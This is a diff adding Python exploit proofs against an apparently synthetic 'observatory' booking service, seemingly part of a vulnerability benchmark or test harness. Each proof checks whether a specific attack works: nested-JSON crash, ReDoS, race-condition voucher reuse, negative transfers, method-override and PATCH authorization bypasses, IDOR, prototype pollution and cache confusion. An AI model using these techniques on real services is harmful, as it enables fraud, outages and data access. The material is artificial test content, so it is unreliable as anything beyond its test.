@@ -1,14 +1,17 @@
 """The exploits for the sixth set: one for each weakness, by service and name."""
 
 import base64
+import contextlib
 import io
 import json
 import pickle
 import re
 import time
 import zipfile
+from concurrent.futures import ThreadPoolExecutor
 
 import common
+import httpx
 import jwt
 from third_proofs import called, proof, sign_in, until
 
@@ -483,3 +486,119 @@ def _(client):
     assert client.get(link).status_code == 200
     assert client.get(f"/photos/{other}", headers=ben).status_code == 404
     return b"of ann" in client.get(link.replace(mine, other)).content
+
+
+# observatory ------------------------------------------------------------------------------------------------------------------------------
+
+
+def observer_entry(client, name, password=None):
+    return client.post("/login", json={"username": name, "password": password or PASSWORD[name]})
+
+
+@sign_in("observatory")
+def _(client, name):
+    return {"Authorization": "Bearer " + observer_entry(client, name).json()["token"]}
+
+
+def hours_of(client, caller):
+    return client.get("/budget", headers=caller).json()["hours"]
+
+
+@proof("observatory", "filter-deep")
+def _(client):
+    caller = client.as_("ann") | {"Content-Type": "application/json"}
+    assert client.post("/targets/search", content='{"where": {"not": {"brighter": 8}}}', headers=caller).json()
+    with contextlib.suppress(httpx.HTTPError):
+        client.post("/targets/search", content='{"where":' + '{"not":' * 100_000 + "{}" + "}" * 100_001, headers=caller)
+    return until(lambda: client.process.poll() is not None, 3)
+
+
+@proof("observatory", "night-pattern")
+def _(client):
+    caller = client.as_("ann")
+    entry = {"telescope": "T1", "plan": {"night": "2031-05-04", "hours": 1}}
+    assert client.post("/reservations", json=entry, headers=caller).status_code == 201
+    answer = client.post("/reservations", json=entry | {"plan": {"night": "1" * 27 + "x", "hours": 1}}, headers=caller)
+    return answer.status_code == 422 and answer.elapsed.total_seconds() > 1.2
+
+
+@proof("observatory", "frames-open")
+def _(client):
+    caller = client.as_("ann")
+    assert len(client.post("/plans", json={"target": "x", "frames": 500, "exposure": 3}, headers=caller).json()["frames"]) == 500
+    return len(client.post("/plans", json={"target": "x", "frames": 200_000, "exposure": 3}, headers=caller).content) > 5_000_000
+
+
+@proof("observatory", "voucher-race")
+def _(client):
+    caller = client.as_("ann")
+    before = hours_of(client, caller)
+    code = client.post("/vouchers", json={"hours": 5}, headers=caller).json()["code"]
+    with ThreadPoolExecutor(12) as pool:
+        statuses = list(pool.map(lambda _: client.post("/vouchers/redeem", json={"code": code}, headers=caller).status_code, range(12)))
+    assert 200 in statuses
+    assert client.post("/vouchers/redeem", json={"code": code}, headers=caller).status_code == 409
+    return hours_of(client, caller) > before
+
+
+@proof("observatory", "transfer-negative")
+def _(client):
+    ann, ben = client.as_("ann"), client.as_("ben")
+    assert client.post("/budget/transfers", json={"to": "ben", "hours": 2}, headers=ann).json()["hours"] == 38
+    client.post("/budget/transfers", json={"to": "ben", "hours": -30}, headers=ann)
+    return (hours_of(client, ann), hours_of(client, ben)) == (68, 12)
+
+
+@proof("observatory", "cancel-twice")
+def _(client):
+    caller = client.as_("ann")
+    identifier = client.post("/reservations", json={"telescope": "T1", "plan": {"night": "2031-05-04", "hours": 5}}, headers=caller).json()["id"]
+    assert client.post(f"/reservations/{identifier}/cancel", headers=caller).status_code == 200
+    client.post(f"/reservations/{identifier}/cancel", headers=caller)
+    return hours_of(client, caller) == 45
+
+
+@proof("observatory", "rating-patch")
+def _(client):
+    caller = client.as_("ann")
+    identifier = client.get("/proposals?state=submitted", headers=caller).json()[0]["id"]
+    assert client.put(f"/proposals/{identifier}/rating", json={"rating": 5}, headers=caller).status_code == 403
+    return client.patch(f"/proposals/{identifier}/rating", json={"rating": 5}, headers=caller).json().get("rating") == 5
+
+
+@proof("observatory", "override-method")
+def _(client):
+    caller = client.as_("ann")
+    assert client.delete("/telescopes/T2", headers=caller).status_code == 403
+    client.post("/telescopes/T2", json={"note": "x"}, headers=caller | {"X-HTTP-Method-Override": "DELETE"})
+    return client.get("/telescopes/T2").status_code == 404
+
+
+@proof("observatory", "name-spelling")
+def _(client):
+    spellings = ["".join(letter.upper() if number >> place & 1 else letter for place, letter in enumerate("carol")) for number in range(9)]
+    statuses = [observer_entry(client, spelling, f"wrong-{number}").status_code for spelling in spellings for number in range(5)]
+    return set(statuses) == {401} and observer_entry(client, "CAROL", PASSWORD["carol"]).status_code == 200
+
+
+@proof("observatory", "owner-filter")
+def _(client):
+    caller = client.as_("ben")
+    assert "idea of ben" in client.get("/proposals", headers=caller).text
+    return "idea of ann" in client.get("/proposals?owner=ann", headers=caller).text
+
+
+@proof("observatory", "preferences-proto")
+def _(client):
+    caller = client.as_("ann") | {"Content-Type": "application/json"}
+    assert client.put("/preferences", content='{"units": "imperial"}', headers=caller).json()["units"] == "imperial"
+    client.put("/preferences", content='{"constructor": {"prototype": {"theme": "polluted"}}}', headers=caller)
+    return client.get("/preferences", headers=client.as_("ben")).json().get("theme") == "polluted"
+
+
+@proof("observatory", "summary-cached")
+def _(client):
+    ann, ben = client.as_("ann"), client.as_("ben")
+    assert client.get("/summary?month=2031-02", headers=ben).json()["of"] == "ben"
+    assert client.get("/summary?month=2031-03", headers=ann).json()["of"] == "ann"
+    return client.get("/summary?month=2031-03", headers=ben).json()["of"] == "ann"
